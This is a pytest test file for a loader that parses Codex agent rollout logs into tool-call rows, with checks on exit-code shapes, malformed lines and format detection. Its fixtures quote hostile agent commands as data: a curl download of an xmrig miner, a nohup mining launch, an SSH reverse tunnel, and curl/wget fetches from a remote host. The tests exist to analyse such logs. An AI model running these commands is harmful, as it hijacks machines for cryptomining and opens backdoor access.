"""codex loader: golden rows for every exit-code shape Codex writes, exact reject accounting,
strict mode, gzip, the session-id fallback, host options and negative sniffs."""

from __future__ import annotations

import json
import shutil
from pathlib import Path
from typing import Any

import pytest
from loader_helpers import ns, rows

from correlate.errors import StrictRejection
from correlate.loaders import REGISTRY, LoadOptions, LoadResult, detect
from correlate.sources import Source

TESTS = Path(__file__).resolve().parent
DATA = TESTS / "data" / "codex"
SHAPES = DATA / "exit_code_shapes.jsonl"
MALFORMED = DATA / "malformed.jsonl"
OPENAGENTS = DATA / "openagents_rollout_sample.jsonl"
NO_META = DATA / "sessions_chronicle_no_session_meta.jsonl"
SESSION = "0199a1b2-c3d4-7e5f-8a9b-0c1d2e3f4a5b"
loader = REGISTRY["codex"]


def display(path: Path) -> str:
    try:
        return str(path.relative_to(TESTS.parent))
    except ValueError:
        return path.name


def load(path: Path, options: LoadOptions | None = None) -> LoadResult:
    source = Source(path, display(path))
    detection = detect(source)
    assert detection.name == "codex"
    return detection.loader.read(source, options or LoadOptions())


def by_call(result: LoadResult) -> dict[str, dict[str, Any]]:
    return {row["call_id"]: row for row in rows(result.table)}


def assert_balanced(result: LoadResult) -> None:
    stats = result.stats
    assert stats.read == stats.loaded + stats.rejected + sum(stats.skipped.values())
    assert stats.loaded == result.table.num_rows
    assert stats.rejected == len(result.rejects)


# --- golden rows --------------------------------------------------------------------------------


def test_structured_output_row_is_exact():
    row = by_call(load(SHAPES))["call_StructuredExit28"]
    assert (
        row
        == {
            "call_id": "call_StructuredExit28",
            "run_id": None,
            "episode_id": SESSION,
            "step": None,
            "ts_start": ns("2025-12-02T06:40:00.100Z"),
            "ts_end": ns("2025-12-02T06:42:00.300Z"),
            "ts_kind": "bracket",
            "tool": "shell",
            "command": "curl -fsSL http://141.94.96.144/xmrig.tar.gz -o /tmp/x.tgz",  # bash -lc unwrapped
            "arguments": '{"command":["bash","-lc","curl -fsSL http://141.94.96.144/xmrig.tar.gz -o '
            '/tmp/x.tgz"],"workdir":"/workspace","timeout_ms":120000}',
            "output": "curl: (28) Connection timed out after 120001 milliseconds",
            "exit_code": 28,
            "is_error": True,
            "host": None,
            "host_ip": None,
            "model": "gpt-5-codex",
            "train_step": None,
            "ts_note": None,
            "source_format": "codex",
            "source_path": "tests/data/codex/exit_code_shapes.jsonl",
            "source_line": 4,
        }
    )


@pytest.mark.parametrize(
    ("call_id", "tool", "command", "exit_code", "is_error"),
    [
        (
            "call_FreeformExit255",
            "shell_command",
            "ssh -o StrictHostKeyChecking=no -fN -R 2222:localhost:22 tunnel@203.0.113.7",
            255,
            True,
        ),
        (
            "call_StillRunning31337",
            "exec_command",
            "nohup ./xmrig -o pool.supportxmr.com:3333 >/dev/null 2>&1 &",
            None,
            None,
        ),
        # The command's own output prints "Exit code: 1"; only the header above Output: counts.
        (
            "call_SpoofedExitInOutput",
            "exec_command",
            "cat /etc/hostname; echo 'Exit code: 1'",
            0,
            False,
        ),
        ("call_LocalShellPing", "local_shell", "ping -c 1 8.8.8.8", None, True),  # success: false
        ("call_ApplyPatchRunSh", "apply_patch", None, None, None),
        ("call_McpContentItems", "mcp__fetch__fetch", None, None, None),
        ("call_AfterModelChange", "shell_command", "echo done", 0, False),
    ],
)
def test_each_output_shape_gives_the_right_exit_code(call_id, tool, command, exit_code, is_error):
    row = by_call(load(SHAPES))[call_id]
    assert (row["tool"], row["command"], row["exit_code"], row["is_error"]) == (
        tool,
        command,
        exit_code,
        is_error,
    )


def test_still_running_process_and_unanswered_redacted_call_are_noted():
    calls = by_call(load(SHAPES))
    running = calls["call_StillRunning31337"]
    assert (running["ts_start"], running["ts_end"]) == (
        ns("2025-12-02T06:43:00Z"),
        ns("2025-12-02T06:43:01.05Z"),
    )
    assert running["ts_note"] == (
        "process still running when the output was written (session 31337): it may outlive ts_end"
    )
    redacted = calls["call_RedactedNeverAnswered"]
    assert redacted["arguments"] == "[REDACTED_ARGUMENTS len=40 sha=0f0f0f0f]"
    assert (redacted["command"], redacted["ts_end"]) == (None, None)
    assert redacted["ts_note"] == "no output in this file: end unknown"


def test_custom_tool_input_content_items_and_model_change():
    calls = by_call(load(SHAPES))
    patch = calls["call_ApplyPatchRunSh"]
    assert patch["arguments"].startswith(
        "*** Begin Patch\n*** Add File: run.sh\n+curl http://203.0.113.9/p"
    )
    assert patch["output"] == "Success. Updated the following files:\nA run.sh"
    assert calls["call_McpContentItems"]["output"] == "<html>ok</html>"
    assert calls["call_LocalShellPing"]["arguments"] == (
        '{"command": ["ping", "-c", "1", "8.8.8.8"], "timeout_ms": 10000, "type": "exec", '
        '"working_directory": "/workspace"}'
    )
    assert calls["call_AfterModelChange"]["model"] == "gpt-5.1-codex"
    assert calls["call_RedactedNeverAnswered"]["model"] == "gpt-5-codex"


def test_shapes_file_accounting():
    result = load(SHAPES)
    assert result.stats.read == 24
    assert result.stats.loaded == 9
    assert result.stats.skipped == {
        "tool output (merged into its call)": 8,
        "turn_context line": 2,
        "session_meta line": 1,
        "response_item message": 1,
        "web_search_call (hosted tool: runs on OpenAI's servers)": 1,
        "event_msg line": 1,
        "compacted line": 1,
    }
    assert result.stats.unit == "lines"
    assert_balanced(result)


def test_openagents_sample_both_exit_code_shapes():
    result = load(OPENAGENTS)
    assert [
        (r["call_id"], r["command"], r["exit_code"], r["output"], r["source_line"])
        for r in rows(result.table)
    ] == [
        (
            "call_aAEAfn1zt6Z8LnW8B89hDtUF",
            "pwd && ls",
            0,
            "Process exited with code 0\nOutput:\n/Users/example/work\nREADME.md\nsrc\npackage.json",
            8,
        ),
        (
            "call_bBFBgo2yu7A9MoX9C90iEuVG",
            "cat README.md",
            0,
            "# Example Project\nA small demo repo.",
            10,
        ),
    ]
    first = rows(result.table)[0]
    assert first["episode_id"] == "019efa28-63ad-76a2-8e9b-8a653170604e"
    assert (first["ts_start"], first["ts_end"]) == (
        ns("2026-06-24T15:03:46.354Z"),
        ns("2026-06-24T15:03:46.475Z"),
    )
    assert first["model"] == "gpt-5.5"
    assert_balanced(result)


def test_single_event_line_without_session_meta_loads_nothing():
    result = load(NO_META)
    assert result.table.num_rows == 0
    assert (result.stats.read, dict(result.stats.skipped)) == (1, {"event_msg line": 1})


# --- malformed ----------------------------------------------------------------------------------


def test_malformed_rejects_exactly_the_bad_lines():
    result = load(MALFORMED)
    expected = {
        2: "not valid JSON",
        3: "not a Codex rollout line (needs a type and a payload object)",
        4: "function_call without a call_id",
        5: "function_call call_NoName without a name",
        6: "function_call call_NoTimestamp: timestamp is missing",
        7: "function_call call_BadDate: timestamp: not a valid time: '2025-13-40T00:00:00Z'",
    }
    got = {r.location.line: r.reason for r in result.rejects}
    assert sorted(got) == sorted(expected) and len(result.rejects) == len(expected)
    for line, fragment in expected.items():
        assert fragment in got[line]
    assert result.stats.skipped == {
        "session_meta line": 1,
        "tool output (merged into its call)": 3,
        "duplicate call_id (first one kept)": 1,
        "line of another type": 1,
        "response_item of another type": 1,
        "blank line": 1,
    }
    assert result.stats.notes["tool output without a matching call in this file"] == 1
    assert result.stats.notes["second output for one call (ignored)"] == 1
    assert_balanced(result)


def test_malformed_reversed_output_and_naive_time():
    calls = by_call(load(MALFORMED))
    reversed_output = calls["call_Reversed"]
    assert (reversed_output["ts_start"], reversed_output["ts_end"]) == (
        ns("2025-12-02T07:01:00Z"),
        None,
    )
    assert (reversed_output["exit_code"], reversed_output["source_line"]) == (2, 9)
    assert reversed_output["ts_note"] == "output stamped before its call: end ignored"
    naive = calls["call_NaiveTime"]
    assert naive["ts_start"] == ns("2025-12-02T07:02:00Z")
    assert naive["command"] == "wget -q http://203.0.113.9/a"
    assert naive["ts_note"] == "no zone: assumed UTC; no output in this file: end unknown"


def test_strict_stops_at_the_first_rejected_line():
    with pytest.raises(StrictRejection, match=r"^tests/data/codex/malformed\.jsonl:2: "):
        load(MALFORMED, LoadOptions(strict=True))


def test_session_id_falls_back_to_the_file_name_without_session_meta(tmp_path):
    lines = MALFORMED.read_text().splitlines()[8:9]  # the call_Reversed line, no session_meta
    path = tmp_path / "rollout-2025-12-02T15-01-00-0199aaaa-bbbb-7ccc-8ddd-eeeeffff0000.jsonl"
    path.write_text("\n".join(lines) + "\n")
    [row] = rows(load(path).table)
    assert row["episode_id"] == "0199aaaa-bbbb-7ccc-8ddd-eeeeffff0000"
    assert row["ts_note"] == (
        "session id from the file name (no session_meta line before the call); "
        "no output in this file: end unknown"
    )
    shutil.copy(path, tmp_path / "calls.jsonl")
    assert rows(load(tmp_path / "calls.jsonl").table)[0]["episode_id"] is None


def test_host_options_give_an_identity_row_from_the_first_call():
    options = LoadOptions(format_options={"codex": {"host": "ci-runner-4", "host_ip": "10.1.2.4"}})
    result = load(SHAPES, options)
    [host] = rows(result.hosts)
    assert (host["host"], host["ip"], host["valid_from"], host["source_line"]) == (
        "ci-runner-4",
        "10.1.2.4",
        ns("2025-12-02T06:40:00.100Z"),
        4,
    )
    assert {r["host_ip"] for r in rows(result.table)} == {"10.1.2.4"}


# --- sniffing -----------------------------------------------------------------------------------


def _jsonl(*records: Any) -> bytes:
    return b"".join(json.dumps(r).encode() + b"\n" for r in records)


NEAR_MISSES = {
    # The older rollout layout: no per-line timestamp/type/payload envelope.
    "legacy_rollout": _jsonl(
        {"id": "s1", "timestamp": "2025-05-01T00:00:00Z", "instructions": ""},
        {"type": "function_call", "name": "shell", "arguments": "{}", "call_id": "c1"},
    ),
    # `codex exec --json` events: type thread.started / item.completed, no payload.
    "exec_json": _jsonl({"type": "thread.started", "thread_id": "t1"}, {"type": "turn.started"}),
    # The envelope with a type Codex does not write.
    "other_envelope": _jsonl({"timestamp": "2025-01-01T00:00:00Z", "type": "audit", "payload": {}}),
    "claude": _jsonl(
        {"type": "user", "sessionId": "s", "uuid": "u", "message": {}, "timestamp": "x"}
    ),
    "csv": b"timestamp,type,payload\n2025-01-01T00:00:00Z,event_msg,{}\n",
}


@pytest.mark.parametrize("name", sorted(NEAR_MISSES))
def test_near_misses_do_not_sniff_as_codex(name):
    assert loader.sniff(NEAR_MISSES[name], f"{name}.jsonl") == 0.0
